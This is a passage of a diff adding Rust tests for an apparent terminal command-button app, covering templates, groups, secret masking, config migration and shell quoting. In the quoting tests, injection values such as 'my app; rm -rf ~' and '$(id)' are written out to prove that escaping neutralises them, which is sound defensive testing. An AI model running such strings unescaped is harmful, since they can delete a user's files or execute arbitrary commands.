+                (name == "dev server").then(|| "tab-7".to_string())
+            })
+            .unwrap();
+        assert_eq!(again, TargetResolution::Existing("tab-7".to_string()));
+    }
+
+    #[test]
+    fn test_execution_target_serialization() {
+        let mut manager = ButtonManager::new();
+        let id = manager
+            .add_button("Dev".to_string(), "npm run dev".to_string())
+            .unwrap();
+        let target = ExecutionTarget::NamedTab {
+            name: "dev".to_string(),
+            profile: None,
+            cwd: None,
+        };
+        manager.set_button_target(&id, target.clone()).unwrap();
+
+        let json = manager.to_json().unwrap();
+        assert!(json.contains(r#""target":{"mode":"named_tab","name":"dev"}"#));
+        let loaded = ButtonManager::from_json(&json).unwrap();
+        assert_eq!(loaded.get_button(&id).unwrap().target, target);
+
+        let mut state = AppState::new();
+        state.button_manager = loaded;
+        let toml = state.to_toml().unwrap();
+        let loaded = AppState::from_toml(&toml).unwrap();
+        assert_eq!(
+            loaded.button_manager.get_button(&id).unwrap().target,
+            target
+        );
+    }
+
+    #[test]
+    fn test_spawn_profile() {
+        let mut state = AppState::new();
+        state.profiles.push(Profile {
+            shell: Some("bash".to_string()),
+            cwd: Some("/srv".to_string()),
+            ..Profile::new("server".to_string())
+        });
+
+        let spawn = state.spawn_profile(Some("server"), Some("/tmp")).unwrap();
+        assert_eq!(spawn.shell.as_deref(), Some("bash"));
+        assert_eq!(spawn.cwd.as_deref(), Some("/tmp"));
+
+        let spawn = state.spawn_profile(None, None).unwrap();
+        assert_eq!(spawn.shell, None);
+
+        assert!(matches!(
+            state.spawn_profile(Some("missing"), None),
+            Err(AppError::ProfileNotFound(_))
+        ));
+    }
+
+    // ============================================
+    // Button Group Tests
+    // ============================================
+
+    #[test]
+    fn test_groups_nest_and_hold_buttons() {
+        let mut manager = ButtonManager::new();
+        let docker = manager.add_group("Docker".to_string(), None).unwrap();
+        let compose = manager
+            .add_group("Compose".to_string(), Some(&docker))
+            .unwrap();
+        let up = manager
+            .add_button("Up".to_string(), "docker compose up".to_string())
+            .unwrap();
+        manager.move_button_to_group(&up, Some(&compose)).unwrap();
+
+        let top: Vec<_> = manager
+            .child_groups(None)
+            .iter()
+            .map(|g| g.name.clone())
+            .collect();
+        assert_eq!(top, vec!["Docker"]);
+        assert_eq!(manager.child_groups(Some(&docker))[0].id, compose);
+        assert_eq!(manager.buttons_in_group(Some(&compose))[0].id, up);
+        assert!(manager.buttons_in_group(None).is_empty());
+    }
+
+    #[test]
+    fn test_group_json_roundtrip() {
+        let mut manager = ButtonManager::new();
+        let group = manager.add_group("Git".to_string(), None).unwrap();
+        manager
+            .update_group(&group, "Git".to_string(), Some("branch".to_string()))
+            .unwrap();
+        manager.set_group_collapsed(&group, true).unwrap();
+        let id = manager
+            .add_button("Status".to_string(), "git status".to_string())
+            .unwrap();
+        manager.move_button_to_group(&id, Some(&group)).unwrap();
+
+        let loaded = ButtonManager::from_json(&manager.to_json().unwrap()).unwrap();
+        let loaded_group = loaded.get_group(&group).unwrap();
+        assert!(loaded_group.collapsed);
+        assert_eq!(loaded_group.icon.as_deref(), Some("branch"));
+        assert_eq!(
+            loaded.get_button(&id).unwrap().group_id.as_deref(),
+            Some(group.as_str())
+        );
+    }
+
+    #[test]
+    fn test_delete_group_moves_contents_to_parent() {
+        let mut manager = ButtonManager::new();
+        let outer = manager.add_group("Outer".to_string(), None).unwrap();
+        let inner = manager
+            .add_group("Inner".to_string(), Some(&outer))
+            .unwrap();
+        let nested = manager
+            .add_group("Nested".to_string(), Some(&inner))
+            .unwrap();
+        let id = manager
+            .add_button("Test".to_string(), "echo test".to_string())
+            .unwrap();
+        manager.move_button_to_group(&id, Some(&inner)).unwrap();
+
+        manager.delete_group(&inner).unwrap();
+
+        assert!(manager.get_group(&inner).is_none());
+        assert_eq!(
+            manager.get_group(&nested).unwrap().parent_id.as_deref(),
+            Some(outer.as_str())
+        );
+        assert_eq!(
+            manager.get_button(&id).unwrap().group_id.as_deref(),
+            Some(outer.as_str())
+        );
+    }
+
+    #[test]
+    fn test_move_group_reorders_siblings() {
+        let mut manager = ButtonManager::new();
+        let a = manager.add_group("A".to_string(), None).unwrap();
+        let b = manager.add_group("B".to_string(), None).unwrap();
+        let c = manager.add_group("C".to_string(), None).unwrap();
+
+        manager.move_group(&c, None, 0).unwrap();
+        let names: Vec<_> = manager
+            .child_groups(None)
+            .iter()
+            .map(|g| g.name.clone())
+            .collect();
+        assert_eq!(names, vec!["C", "A", "B"]);
+
+        manager.move_group(&a, Some(&b), 10).unwrap();
+        let names: Vec<_> = manager
+            .child_groups(None)
+            .iter()
+            .map(|g| g.name.clone())
+            .collect();
+        assert_eq!(names, vec!["C", "B"]);
+        assert_eq!(manager.child_groups(Some(&b))[0].id, a);
+    }
+
+    #[test]
+    fn test_move_group_into_descendant_fails() {
+        let mut manager = ButtonManager::new();
+        let outer = manager.add_group("Outer".to_string(), None).unwrap();
+        let inner = manager
+            .add_group("Inner".to_string(), Some(&outer))
+            .unwrap();
+
+        let result = manager.move_group(&outer, Some(&inner), 0);
+        assert!(matches!(result, Err(AppError::InvalidGroupMove(_))));
+        let result = manager.move_group(&outer, Some(&outer), 0);
+        assert!(matches!(result, Err(AppError::InvalidGroupMove(_))));
+    }
+
+    #[test]
+    fn test_group_not_found() {
+        let mut manager = ButtonManager::new();
+        let id = manager
+            .add_button("Test".to_string(), "echo test".to_string())
+            .unwrap();
+
+        assert!(matches!(
+            manager.move_button_to_group(&id, Some("missing")),
+            Err(AppError::GroupNotFound(_))
+        ));
+        assert!(matches!(
+            manager.add_group("Child".to_string(), Some("missing")),
+            Err(AppError::GroupNotFound(_))
+        ));
+    }
+
+    // ============================================
+    // Template Tests
+    // ============================================
+
+    fn values(pairs: &[(&str, &str)]) -> HashMap<String, String> {
+        pairs
+            .iter()
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect()
+    }
+
+    #[test]
+    fn test_template_schema() {
+        let template = Template::parse(
+            "deploy {{env|choice=dev, staging ,prod}} {{tag:latest}} {{note?}} {{region!:eu}}",
+        )
+        .unwrap();
+
+        let variables = template.variables();
+        assert_eq!(variables.len(), 4);
+        assert_eq!(variables[0].name, "env");
+        assert_eq!(variables[0].choices, vec!["dev", "staging", "prod"]);
+        assert!(variables[0].required);
+        assert_eq!(variables[1].default.as_deref(), Some("latest"));
+        assert!(!variables[1].required);
+        assert!(!variables[2].required);
+        assert_eq!(variables[2].default, None);
+        assert!(variables[3].required);
+        assert_eq!(variables[3].default.as_deref(), Some("eu"));
+    }
+
+    #[test]
+    fn test_template_render() {
+        let template = Template::parse("docker exec -it {{ container }} {{shell:bash}}").unwrap();
+
+        let rendered = template.render(&values(&[("container", "web")])).unwrap();
+        assert_eq!(rendered, "docker exec -it web bash");
+
+        let rendered = template
+            .render(&values(&[("container", "db"), ("shell", "sh")]))
+            .unwrap();
+        assert_eq!(rendered, "docker exec -it db sh");
+    }
+
+    #[test]
+    fn test_template_render_missing_and_invalid_values() {
+        let template = Template::parse("run {{name}} {{env|choice=dev,prod}} {{extra?}}").unwrap();
+
+        let result = template.render(&values(&[("env", "dev")]));
+        assert!(matches!(result, Err(AppError::MissingVariable(name)) if name == "name"));
+
+        let result = template.render(&values(&[("name", "x"), ("env", "qa")]));
+        assert!(matches!(result, Err(AppError::InvalidChoice { name, .. }) if name == "env"));
+
+        let rendered = template
+            .render(&values(&[("name", "x"), ("env", "prod")]))
+            .unwrap();
+        assert_eq!(rendered, "run x prod ");
+    }
+
+    #[test]
+    fn test_template_repeated_variable() {
+        let template = Template::parse("cp {{file:a.txt}} {{file}}.bak").unwrap();
+
+        assert_eq!(template.variables().len(), 1);
+        assert_eq!(
+            template.render(&HashMap::new()).unwrap(),
+            "cp a.txt a.txt.bak"
+        );
+
+        let result = Template::parse("{{file:a}} {{file:b}}");
+        assert!(matches!(
+            result,
+            Err(AppError::Template { position: 11, .. })
+        ));
+    }
+
+    #[test]
+    fn test_template_quoted_values_and_escapes() {
+        let template = Template::parse(r#"echo {{msg:"a|b}}c"}} \{{literal}}"#).unwrap();
+
+        assert_eq!(template.variables().len(), 1);
+        assert_eq!(
+            template.render(&HashMap::new()).unwrap(),
+            "echo a|b}}c {{literal}}"
+        );
+    }
+
+    #[test]
+    fn test_template_braces_without_a_name_are_text() {
+        for source in [
+            "docker ps --format '{{.Names}}'",
+            "docker inspect -f '{{ .State.Status }}' web",
+            "docker inspect --format '{{json .Config}}' web",
+            "kubectl get pods -o go-template='{{range .items}}{{.metadata.name}}{{\"\\n\"}}'",
+            "echo {{na me}}",
+            "echo {{}}",
+        ] {
+            let template = Template::parse(source).unwrap();
+            assert!(template.variables().is_empty(), "{source}");
+            assert_eq!(template.render(&HashMap::new()).unwrap(), source);
+        }
+
+        let template = Template::parse("docker logs {{container}} --format '{{.ID}}'").unwrap();
+        assert_eq!(template.variables().len(), 1);
+        assert_eq!(
+            template
+                .render(&HashMap::from([(
+                    "container".to_string(),
+                    "web".to_string()
+                )]))
+                .unwrap(),
+            "docker logs web --format '{{.ID}}'"
+        );
+    }
+
+    #[test]
+    fn test_template_syntax_errors() {
+        let cases = [
+            ("echo {{name", 5),
+            ("echo {{name|bogus}}", 12),
+            ("echo {{name|choice}}", 12),
+            ("echo {{name:\"open}}", 12),
+        ];
+        for (source, expected) in cases {
+            match Template::parse(source) {
+                Err(AppError::Template { position, .. }) => {
+                    assert_eq!(position, expected, "position for {source}")
+                }
+                other => panic!("expected template error for {source}, got {other:?}"),
+            }
+        }
+    }
+
+    #[test]
+    fn test_button_manager_validates_templates() {
+        let mut manager = ButtonManager::new();
+
+        let result = manager.add_button("Bad".to_string(), "echo {{oops".to_string());
+        assert!(matches!(result, Err(AppError::Template { .. })));
+        assert_eq!(manager.count(), 0);
+
+        let id = manager
+            .add_button("Good".to_string(), "echo {{name}}".to_string())
+            .unwrap();
+        let result =
+            manager.update_button(&id, "Good".to_string(), "echo {{name|bogus}}".to_string());
+        assert!(matches!(result, Err(AppError::Template { .. })));
+        assert_eq!(manager.get_button(&id).unwrap().command, "echo {{name}}");
+
+        // Go templates are commands, not placeholders
+        manager
+            .add_button(
+                "Inspect".to_string(),
+                "docker inspect --format '{{json .Config}}' {{container}}".to_string(),
+            )
+            .unwrap();
+        manager
+            .add_button(
+                "Pods".to_string(),
+                "kubectl get pods -o go-template='{{range .items}}{{printf \"%s \" .metadata.name}}'"
+                    .to_string(),
+            )
+            .unwrap();
+        manager.validate().unwrap();
+    }
+
+    #[test]
+    fn test_loading_validates_every_button() {
+        let invalid = [
+            r#"[{"id":"a","name":"A","command":"echo {{oops"}]"#,
+            r#"[{"id":"a","name":"A","command":"x","env":{"1BAD":"v"}}]"#,
+            r#"[{"id":"a","name":"A","command":"x","steps":[{"type":"wait_for","pattern":"("}]}]"#,
+        ];
+        for json in invalid {
+            assert!(ButtonManager::from_json(json).is_err(), "{json}");
+            let object = format!(r#"{{"buttons":{json}}}"#);
+            assert!(ButtonManager::from_json(&object).is_err(), "{object}");
+        }
+
+        let toml = "schema_version = 2\n\n[[button_manager.buttons]]\nid = \"a\"\nname = \"A\"\ncommand = \"echo {{oops\"\n";
+        assert!(matches!(
+            AppState::from_toml(toml),
+            Err(AppError::Template { .. })
+        ));
+    }
+
+    #[test]
+    fn test_template_render_for_shell() {
+        let template = Template::parse("docker rm {{name}} {{flags?|raw}} {{tag?}}").unwrap();
+
+        let rendered = template
+            .render_for_shell(
+                &values(&[("name", "my app; rm -rf ~"), ("flags", "-f -v")]),
+                Shell::Posix,
+            )
+            .unwrap();
+        assert_eq!(rendered, "docker rm 'my app; rm -rf ~' -f -v ");
+
+        let rendered = template
+            .render_for_shell(&values(&[("name", "web-1")]), Shell::PowerShell)
+            .unwrap();
+        assert_eq!(rendered, "docker rm web-1  ");
+    }
+
+    #[test]
+    fn test_template_from_modifier() {
+        let template = Template::parse(
+            r#"docker exec -it {{container|from="docker ps --format {{.Names}}"}} sh"#,
+        )
+        .unwrap();
+
+        let variable = &template.variables()[0];
+        assert_eq!(
+            variable.from.as_deref(),
+            Some("docker ps --format {{.Names}}")
+        );
+        assert!(variable.choices.is_empty());
+        assert_eq!(
+            template.render(&values(&[("container", "web")])).unwrap(),
+            "docker exec -it web sh"
+        );
+
+        let result = Template::parse("{{env|choice=a,b|from=ls}}");
+        assert!(matches!(
+            result,
+            Err(AppError::Template { position: 17, .. })
+        ));
+        let result = Template::parse("{{env|from}}");
+        assert!(matches!(
+            result,
+            Err(AppError::Template { position: 6, .. })
+        ));
+    }
+
+    #[test]
+    fn test_parse_choice_output() {
+        let output = "web\n  db  \n\nweb\r\ncache\n";
+        assert_eq!(parse_choice_output(output), vec!["web", "db", "cache"]);
+        assert!(parse_choice_output("\n \n").is_empty());
+    }
+
+    #[test]
+    fn test_choice_cache_expires() {
+        let mut cache = ChoiceCache::new(Duration::from_secs(30));
+        let start = Instant::now();
+        cache.insert("ls".to_string(), None, vec!["a".to_string()], start);
+        cache.insert(
+            "ls".to_string(),
+            Some("/repo".to_string()),
+            vec!["b".to_string()],
+            start,
+        );
+
+        assert_eq!(
+            cache.get("ls", None, start + Duration::from_secs(10)),
+            Some(&["a".to_string()][..])
+        );
+        assert_eq!(
+            cache.get("ls", Some("/repo"), start),
+            Some(&["b".to_string()][..])
+        );
+        assert_eq!(cache.get("ls", None, start + Duration::from_secs(30)), None);
+        assert_eq!(cache.get("pwd", None, start), None);
+        assert_eq!(cache.get("ls", Some("/other"), start), None);
+
+        cache.invalidate("ls", None);
+        assert_eq!(cache.get("ls", None, start), None);
+        assert!(cache.get("ls", Some("/repo"), start).is_some());
+    }
+
+    #[test]
+    fn test_value_history_prefills_and_suggests() {
+        let mut manager = ButtonManager::new();
+        let id = manager
+            .add_button(
+                "Exec".to_string(),
+                "docker exec -it {{container}} {{shell:bash}}".to_string(),
+            )
+            .unwrap();
+
+        manager
+            .record_values(&id, &values(&[("container", "web"), ("shell", "")]))
+            .unwrap();
+        manager
+            .record_values(&id, &values(&[("container", "db")]))
+            .unwrap();
+        manager
+            .record_values(&id, &values(&[("container", "web")]))
+            .unwrap();
+
+        assert_eq!(manager.value_history(&id, "container"), ["web", "db"]);
+        assert!(manager.value_history(&id, "shell").is_empty());
+
+        let prompt = manager.prompt(&id).unwrap();
+        assert_eq!(prompt[0].value.as_deref(), Some("web"));
+        assert_eq!(prompt[0].suggestions, vec!["web", "db"]);
+        assert_eq!(prompt[1].value, None);
+        assert_eq!(prompt[1].variable.default.as_deref(), Some("bash"));
+    }
+
+    #[test]
+    fn test_value_history_is_limited() {
+        let mut manager = ButtonManager::new();
+        let id = manager
+            .add_button("Echo".to_string(), "echo {{msg}}".to_string())
+            .unwrap();
+
+        for i in 0..VALUE_HISTORY_LIMIT + 5 {
+            manager
+                .record_values(&id, &values(&[("msg", &i.to_string())]))
+                .unwrap();
+        }
+
+        let history = manager.value_history(&id, "msg");
+        assert_eq!(history.len(), VALUE_HISTORY_LIMIT);
+        assert_eq!(history[0], (VALUE_HISTORY_LIMIT + 4).to_string());
+    }
+
+    #[test]
+    fn test_secret_values_are_never_stored() {
+        let mut manager = ButtonManager::new();
+        let id = manager
+            .add_button(
+                "Login".to_string(),
+                "login {{user}} {{token|secret}}".to_string(),
+            )
+            .unwrap();
+
+        manager
+            .record_values(&id, &values(&[("user", "me"), ("token", "hunter2")]))
+            .unwrap();
+
+        assert!(manager.value_history(&id, "token").is_empty());
+        assert!(!manager.to_json().unwrap().contains("hunter2"));
+        assert_eq!(manager.prompt(&id).unwrap()[1].value, None);
+    }
+
+    #[test]
+    fn test_secret_values_are_masked_in_previews() {
+        let mut button = CommandButton::new(
+            "Login".to_string(),
+            "login {{user}} {{token|secret}} {{flags?|raw}}".to_string(),
+        );
+        button
+            .env
+            .insert("TOKEN".to_string(), "{{token}}".to_string());
+        let values = values(&[("user", "me"), ("token", "hunter 2"), ("flags", "-v")]);
+        let secrets = button.secret_variables().unwrap();
+        assert_eq!(secrets, HashSet::from(["token".to_string()]));
+
+        let template = button.template().unwrap();
+        assert_eq!(
+            template.render_for_shell(&values, Shell::Posix).unwrap(),
+            "login me 'hunter 2' -v"
+        );
+        assert_eq!(
+            template
+                .preview_for_shell(&values, Shell::Posix, &secrets)
+                .unwrap(),
+            format!("login me {SECRET_MASK} -v")
+        );
+        // Masked by name even where the variable isn't marked secret itself
+        assert_eq!(
+            button.preview_env(&values, &secrets).unwrap()["TOKEN"],
+            SECRET_MASK
+        );
+
+        let steps = vec![MacroStep::Send {
+            text: "{{token|secret}}".into(),
+            enter: true,
+        }];
+        let mut executor =
+            MacroExecutor::new(&steps, &values, Shell::Posix, &HashSet::new()).unwrap();
+        assert_eq!(executor.preview(), format!("{SECRET_MASK}\n"));
+        assert_eq!(
+            executor.next(Instant::now()).unwrap(),
+            MacroAction::Send("'hunter 2'\n".into())
+        );
+    }
+
+    #[test]
+    fn test_value_history_follows_button_changes() {
+        let mut manager = ButtonManager::new();
+        let id = manager
+            .add_button("Login".to_string(), "login {{user}} {{pass}}".to_string())
+            .unwrap();
+        manager
+            .record_values(&id, &values(&[("user", "me"), ("pass", "pw")]))
+            .unwrap();
+
+        let loaded = ButtonManager::from_json(&manager.to_json().unwrap()).unwrap();
+        assert_eq!(loaded.value_history(&id, "pass"), ["pw"]);
+
+        manager
+            .update_button(
+                &id,
+                "Login".to_string(),
+                "login {{user}} {{pass|secret}}".to_string(),
+            )
+            .unwrap();
+        assert_eq!(manager.value_history(&id, "user"), ["me"]);
+        assert!(manager.value_history(&id, "pass").is_empty());
+
+        manager.delete_button(&id).unwrap();
+        assert!(manager.value_history(&id, "user").is_empty());
+    }
+
+    #[test]
+    fn test_value_history_is_pruned_on_load() {
+        // Saved while `pass` wasn't secret yet, then edited by hand
+        let json = r#"{
+            "buttons": [{"id": "b", "name": "Login", "command": "login {{user}} {{pass|secret}}"}],
+            "value_history": {
+                "b": {"user": ["me"], "pass": ["hunter2"]},
+                "gone": {"x": ["1"]}
+            }
+        }"#;
+        let manager = ButtonManager::from_json(json).unwrap();
+        assert_eq!(manager.value_history("b", "user"), ["me"]);
+        assert!(manager.value_history("b", "pass").is_empty());
+        assert!(!manager.to_json().unwrap().contains("hunter2"));
+        assert!(!manager.to_json().unwrap().contains("gone"));
+
+        let state = AppState::from_json(&format!(
+            r#"{{"schema_version": 2, "button_manager": {json}}}"#
+        ))
+        .unwrap();
+        assert!(state.button_manager.value_history("b", "pass").is_empty());
+    }
+
+    // ============================================
+    // Shell Quoting Tests
+    // ============================================
+
+    /// Splits POSIX shell input into words, returning None if any character
+    /// outside quotes would be interpreted by the shell
+    fn posix_words(input: &str) -> Option<Vec<String>> {
+        let mut words = Vec::new();
+        let mut word: Option<String> = None;
+        let mut chars = input.chars();
+        while let Some(c) = chars.next() {
+            match c {
+                ' ' => words.extend(word.take()),
+                '\'' => {
+                    let word = word.get_or_insert_with(String::new);
+                    loop {
+                        match chars.next()? {
+                            '\'' => break,
+                            c => word.push(c),
+                        }
+                    }
+                }
+                '\\' => word.get_or_insert_with(String::new).push(chars.next()?),
+                c if is_shell_safe_char(c) => word.get_or_insert_with(String::new).push(c),
+                _ => return None,
+            }
+        }
+        words.extend(word);
+        Some(words)
+    }
+
+    /// Splits fish input into words; inside single quotes only `\'` and `\\` are escapes
+    fn fish_words(input: &str) -> Option<Vec<String>> {
+        let mut words = Vec::new();
+        let mut word: Option<String> = None;
+        let mut chars = input.chars().peekable();
+        while let Some(c) = chars.next() {
+            match c {
+                ' ' => words.extend(word.take()),
+                '\'' => {
+                    let word = word.get_or_insert_with(String::new);
+                    loop {
+                        match chars.next()? {
+                            '\'' => break,
+                            '\\' if matches!(chars.peek(), Some('\'' | '\\')) => {
+                                word.push(chars.next()?)
+                            }
+                            c => word.push(c),
+                        }
+                    }
+                }
+                c if is_shell_safe_char(c) => word.get_or_insert_with(String::new).push(c),
+                _ => return None,
+            }
+        }
+        words.extend(word);
+        Some(words)
+    }
+
+    /// Splits PowerShell input into words; a doubled quote character inside
+    /// a single-quoted string is a literal quote
+    fn powershell_words(input: &str) -> Option<Vec<String>> {
+        let is_quote =
+            |c: char| matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}');
+        let mut words = Vec::new();
+        let mut word: Option<String> = None;
+        let mut chars = input.chars().peekable();
+        while let Some(c) = chars.next() {
+            match c {
+                ' ' => words.extend(word.take()),
+                c if is_quote(c) => {
+                    let word = word.get_or_insert_with(String::new);
+                    loop {
+                        match chars.next()? {
+                            q if is_quote(q) && chars.peek().copied().is_some_and(is_quote) => {
+                                word.push(chars.next()?)
+                            }
+                            q if is_quote(q) => break,
+                            c => word.push(c),
+                        }
+                    }
+                }
+                c if is_shell_safe_char(c) => word.get_or_insert_with(String::new).push(c),
+                _ => return None,
+            }
+        }
+        words.extend(word);
+        Some(words)
+    }
+
+    /// Decodes a single cmd.exe argument as the C runtime would
+    fn cmd_word(input: &str) -> Option<String> {
+        if input.chars().all(is_shell_safe_char) {
+            return Some(input.to_string());
+        }
+        let inner = input.strip_prefix('"')?.strip_suffix('"')?;
+        if inner.contains(['"', '%', '!']) {
+            return None;
+        }
+        let trailing = inner.len() - inner.trim_end_matches('\\').len();
+        if trailing % 2 != 0 {
+            return None;
+        }
+        Some(format!(
+            "{}{}",
+            inner.trim_end_matches('\\'),
+            "\\".repeat(trailing / 2)
+        ))
+    }
+
+    #[test]
+    fn test_shell_quote_examples() {
+        assert_eq!(Shell::Posix.quote("web-1").unwrap(), "web-1");
+        assert_eq!(Shell::Posix.quote("").unwrap(), "''");
+        assert_eq!(Shell::Posix.quote("it's").unwrap(), r"'it'\''s'");
+        assert_eq!(Shell::Fish.quote(r"a\b'c").unwrap(), r"'a\\b\'c'");
+        assert_eq!(Shell::PowerShell.quote("it's $x").unwrap(), "'it''s $x'");
+        assert_eq!(Shell::Cmd.quote(r"C:\My Dir\").unwrap(), r#""C:\My Dir\\""#);
+        assert!(matches!(
+            Shell::Cmd.quote("%PATH%"),
+            Err(AppError::UnsafeValue {
+                shell: Shell::Cmd,
+                ..
+            })
+        ));
+        assert!(Shell::Posix.quote("a\0b").is_err());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_posix_quote_survives_real_shell() {
+        for value in [
+            "a b", "it's", "$(id)", "`id`", "a;b|c&d", "*", "~", "\\n", "\"x\"",
+        ] {
+            let quoted = Shell::Posix.quote(value).unwrap();
+            let output = std::process::Command::new("sh")
+                .arg("-c")
+                .arg(format!("printf %s {quoted}"))
+                .output()
+                .unwrap();
+            assert_eq!(String::from_utf8_lossy(&output.stdout), value);
+        }
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn prop_posix_quote_round_trips(value in "[^\\x00]*") {
+            let quoted = Shell::Posix.quote(&value).unwrap();
+            proptest::prop_assert_eq!(posix_words(&quoted), Some(vec![value]));
+        }
+
+        #[test]
+        fn prop_fish_quote_round_trips(value in "[^\\x00]*") {
+            let quoted = Shell::Fish.quote(&value).unwrap();
+            proptest::prop_assert_eq!(fish_words(&quoted), Some(vec![value]));
+        }
+
+        #[test]
+        fn prop_powershell_quote_round_trips(value in "[^\\x00]*") {
+            let quoted = Shell::PowerShell.quote(&value).unwrap();
+            proptest::prop_assert_eq!(powershell_words(&quoted), Some(vec![value]));
+        }
+
+        #[test]
+        fn prop_cmd_quote_round_trips_or_refuses(value in "[^\\x00]*") {
+            match Shell::Cmd.quote(&value) {
+                Ok(quoted) => proptest::prop_assert_eq!(cmd_word(&quoted), Some(value)),
+                Err(_) => proptest::prop_assert!(value.contains(['"', '%', '!', '\n', '\r'])),
+            }
+        }
+    }
+
+    // ============================================
+    // Config File Tests
+    // ============================================
+
+    #[test]
+    fn test_usage_is_kept_out_of_the_config_file() {
+        let mut state = AppState::new();
+        let id = state
+            .button_manager
+            .add_button("SSH".to_string(), "ssh {{host}}".to_string())
+            .unwrap();
+        state.button_manager.record_use(&id, 5_000).unwrap();
+        state
+            .button_manager
+            .record_values(
+                &id,
+                &HashMap::from([("host".to_string(), "db-7".to_string())]),
+            )
+            .unwrap();
+
+        let toml = state.to_toml().unwrap();
+        assert!(!toml.contains("use_count"));
+        assert!(!toml.contains("db-7"));
+        let usage = UsageState::from_json(&state.usage().to_json().unwrap()).unwrap();
+        assert_eq!(
+            usage.buttons[&id],
+            ButtonUsage {
+                use_count: 1,
+                last_used_ms: Some(5_000),
+                values: BTreeMap::from([("host".to_string(), vec!["db-7".to_string()])]),
+            }
+        );
+
+        let mut loaded = AppState::from_toml(&toml).unwrap();
+        assert_eq!(loaded.button_manager.get_button(&id).unwrap().use_count, 0);
+        loaded.restore_usage(&usage);
+        assert_eq!(loaded.button_manager.get_button(&id).unwrap().use_count, 1);
+        assert_eq!(loaded.button_manager.value_history(&id, "host"), ["db-7"]);
+        assert!(state.diff(&loaded).is_empty());
+    }
+
+    #[test]
+    fn test_restore_usage_keeps_counts_from_old_config_files() {
+        let mut state = AppState::from_toml(
+            r#"
+schema_version = 2
+
+[[button_manager.buttons]]
+id = "build"
+name = "Build"
+command = "make"
+use_count = 4
+
+[[button_manager.buttons]]
+id = "test"
+name = "Test"
+command = "make test"
+use_count = 2
+"#,
+        )
+        .unwrap();
+        let usage = UsageState {
+            buttons: BTreeMap::from([(
+                "test".to_string(),
+                ButtonUsage {
+                    use_count: 3,
+                    ..ButtonUsage::default()
+                },
+            )]),
+        };
+        state.restore_usage(&usage);
+        let counts: Vec<_> = state
+            .button_manager
+            .get_buttons()
+            .iter()
+            .map(|b| b.use_count)
+            .collect();
+        assert_eq!(counts, vec![4, 3]);
+        assert_eq!(state.usage().buttons.len(), 2);
+    }
+
+    #[test]
+    fn test_app_state_toml_roundtrip() {
+        let mut state = AppState::new();
+        state
+            .button_manager
+            .add_button("Test".to_string(), "echo test".to_string())
+            .unwrap();
+        state.profiles.push(Profile::new("root".to_string()));
+
+        let toml = state.to_toml().unwrap();
+        let loaded = AppState::from_toml(&toml).unwrap();
+
+        assert_eq!(
+            loaded.button_manager.get_buttons(),
+            state.button_manager.get_buttons()
+        );
+        assert_eq!(loaded.profiles, state.profiles);
+        assert!(state.diff(&loaded).is_empty());
+    }
+
+    #[test]
+    fn test_app_state_toml_missing_sections_use_defaults() {
+        let loaded = AppState::from_toml("[sidebar_config]\nwidth = 320\n").unwrap();
+
+        assert_eq!(loaded.sidebar_config.width, 320);
+        assert_eq!(loaded.terminal_config, TerminalConfig::default());
+        assert_eq!(loaded.button_manager.count(), 0);
+    }
+
+    #[test]
+    fn test_app_state_toml_parse_error_has_position() {
+        let source = "[sidebar_config]\nwidth = \"wide\"\n";
+
+        let result = AppState::from_toml(source);
+        match result {
+            Err(AppError::ConfigParse { line, column, .. }) => {
+                assert_eq!(line, 2);
+                assert_eq!(column, 9);
+            }
+            other => panic!("expected ConfigParse error, got {other:?}"),
+        }
+    }
+
+    #[test]
+    fn test_app_state_diff() {
+        let mut old = AppState::new();
+        let kept = old
+            .button_manager
+            .add_button("Kept".to_string(), "echo kept".to_string())
+            .unwrap();
+        let removed = old
+            .button_manager
+            .add_button("Removed".to_string(), "echo removed".to_string())
+            .unwrap();
+
+        let mut new = old.clone();
+        new.button_manager.delete_button(&removed).unwrap();
+        new.button_manager
+            .update_button(&kept, "Kept".to_string(), "echo changed".to_string())
+            .unwrap();
+        let added = new
+            .button_manager
+            .add_button("Added".to_string(), "echo added".to_string())
+            .unwrap();
+        new.sidebar_config.width = 300;
+
+        let diff = old.diff(&new);
+        assert_eq!(diff.buttons_added, vec![added]);
+        assert_eq!(diff.buttons_removed, vec![removed]);
+        assert_eq!(diff.buttons_changed, vec![kept]);
+        assert!(diff.sidebar_config_changed);
+        assert!(!diff.terminal_config_changed);
+        assert!(!diff.profiles_changed);
+    }
+
+    // ============================================
+    // Schema Migration Tests
+    // ============================================
+
+    /// AppState as written before schema versioning was introduced
+    const FIXTURE_V0: &str = r##"{
+        "button_manager": {
+            "buttons": [
+                { "id": "b1", "name": "Build", "command": "cargo build" }
+            ]
+        },
+        "terminal_config": {
+            "cursor_blink": false,
+            "background_color": "#000000",
+            "foreground_color": "#ffffff"
+        },
+        "sidebar_config": { "width": 250 }
+    }"##;
+
+    /// AppState as written by schema version 1
+    const FIXTURE_V1: &str = r##"{
+        "schema_version": 1,
+        "button_manager": {
+            "buttons": [
+                { "id": "b1", "name": "Build", "command": "cargo build" }
+            ]
+        },
+        "terminal_config": {
+            "cursor_blink": false,
+            "background_color": "#000000",
+            "foreground_color": "#ffffff"
+        },
+        "sidebar_config": { "width": 250 },
+        "profiles": [{ "name": "root", "shell": "sudo", "args": ["-i"] }]
+    }"##;
+
+    #[test]
+    fn test_migrate_fixture_v0() {
+        let state = AppState::from_json(FIXTURE_V0).unwrap();
+
+        assert_eq!(state.schema_version, SCHEMA_VERSION);
+        assert_eq!(state.button_manager.get_buttons()[0].name, "Build");
+        assert!(!state.terminal_config.cursor_blink);
+        assert_eq!(state.terminal_config.theme.background, "#000000");
+        assert_eq!(state.sidebar_config.width, 250);
+        assert!(state.profiles.is_empty());
+    }
+
+    #[test]
+    fn test_migrate_fixture_v1() {
+        let state = AppState::from_json(FIXTURE_V1).unwrap();
+
+        assert_eq!(state.schema_version, SCHEMA_VERSION);
+        assert_eq!(state.button_manager.count(), 1);
+        assert_eq!(state.profiles[0].name, "root");
+        assert_eq!(state.profiles[0].args, vec!["-i".to_string()]);
+
+        let theme = &state.terminal_config.theme;
+        assert_eq!(theme.name, "Custom");
+        assert_eq!(theme.background, "#000000");
+        assert_eq!(theme.foreground, "#ffffff");
+        assert_eq!(theme.red, TerminalTheme::default().red);
+    }
+
+    /// AppState as written by schema version 2
+    const FIXTURE_V2: &str = r##"{
+        "schema_version": 2,
+        "terminal_config": {
